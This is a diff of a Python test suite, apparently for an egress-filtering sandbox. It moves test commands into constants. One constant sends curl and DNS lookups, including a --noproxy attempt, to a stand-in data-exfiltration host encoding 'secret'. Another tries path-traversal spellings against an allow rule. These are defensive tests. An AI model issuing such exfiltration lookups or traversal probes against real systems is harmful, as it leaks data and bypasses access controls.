@@ -29,12 +29,14 @@ def test_a_blind_tunnel(world, operator, runtime):
     assert [r["path"] for r in world.seen("allowed.example.org", session.since)] == ["/x"], "a blind tunnel shows the host's own certificate"
 
 
+FORBIDDEN_NAME = "c2VjcmV0.exfil.example.net"
+ASK_FOR_IT = "curl -sS -m 10 https://{0}/; curl -sS -m 10 http://{0}/; getent hosts {0}; curl --noproxy '*' -sS -m 10 https://{0}/; true".format(FORBIDDEN_NAME)
+
+
 def test_a_forbidden_name_is_never_looked_up(world, operator):
-    name = "c2VjcmV0.exfil.example.net"
-    session = operator.start(
-        "curl -sS -m 10 https://%s/; curl -sS -m 10 http://%s/; getent hosts %s; curl --noproxy '*' -sS -m 10 https://%s/; true" % ((name,) * 4))
+    session = operator.start(ASK_FOR_IT)
     assert session.status == 0, session.explain()
-    assert name.lower() not in world.names_asked(session.since)
+    assert FORBIDDEN_NAME.lower() not in world.names_asked(session.since)
 
 
 def test_plain_http_follows_the_same_rules(world, operator):
@@ -139,12 +141,15 @@ def test_raw_addresses_are_refused_in_every_spelling(operator):
     assert "CANARY" not in session.out
 
 
+OTHER_METHODS_AND_PATHS = (
+    "for a in '-X GET https://inspected.example.org/ok/a' '-X POST https://inspected.example.org/ok/b' 'https://inspected.example.org/no' "
+    "'--path-as-is https://inspected.example.org/ok/../no' 'https://inspected.example.org/ok/%2e%2e/no'; do "
+    "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' $a; done")
+
+
 def test_methods_and_paths_are_kept(world, operator):
     rule = {"host": "inspected.example.org", "methods": ["GET"], "paths": ["/ok/**"]}
-    session = operator.start(
-        "for a in '-X GET https://inspected.example.org/ok/a' '-X POST https://inspected.example.org/ok/b' 'https://inspected.example.org/no' "
-        "'--path-as-is https://inspected.example.org/ok/../no' 'https://inspected.example.org/ok/%2e%2e/no'; do "
-        "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' $a; done", egress={"allow": [rule]})
+    session = operator.start(OTHER_METHODS_AND_PATHS, egress={"allow": [rule]})
     assert session.out.split()[:3] == ["200", "403", "403"], session.explain()
     assert [(r["method"], r["path"]) for r in world.seen("inspected.example.org", session.since)] == [("GET", "/ok/a")]
 
